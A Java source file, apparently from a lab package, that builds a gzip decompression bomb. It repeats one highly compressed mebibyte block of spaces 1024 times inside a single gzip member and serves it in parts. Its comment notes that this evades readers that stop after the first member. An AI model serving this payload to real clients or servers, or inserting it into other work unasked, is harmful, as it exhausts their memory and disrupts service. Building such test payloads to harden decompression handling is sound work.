package dev.windsock.lab;

import io.vertx.core.buffer.Buffer;
import java.util.zip.Deflater;

/**
 * A gzip stream of spaces that inflates about a thousandfold: one compressed block that refers to
 * nothing before it, sent again and again within a single member (many readers stop after the first
 * member, and so would miss a bomb of many).
 */
final class Bomb {
  /** Blocks in the whole, each a MiB when inflated. */
  static final int BLOCKS = 1024;

  private static final byte[] HEADER = {0x1f, (byte) 0x8b, 8, 0, 0, 0, 0, 0, 0, 3};
  private static final int BLOCK_BYTES = 1 << 20;

  private final Buffer block;

  Bomb() {
    byte[] spaces = new byte[BLOCK_BYTES];
    java.util.Arrays.fill(spaces, (byte) ' ');
    byte[] packed = new byte[8192];
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    deflater.setInput(spaces);
    int length = deflater.deflate(packed, 0, packed.length, Deflater.FULL_FLUSH);
    deflater.end();
    if (length == packed.length) {
      throw new IllegalStateException("a block of the bomb does not fit its buffer");
    }
    block = Buffer.buffer().appendBytes(packed, 0, length);
  }

  /** The part of a number from 0, the header before the first. */
  Buffer part(long number) {
    return number == 0 ? Buffer.buffer(HEADER).appendBuffer(block) : block.copy();
  }
}
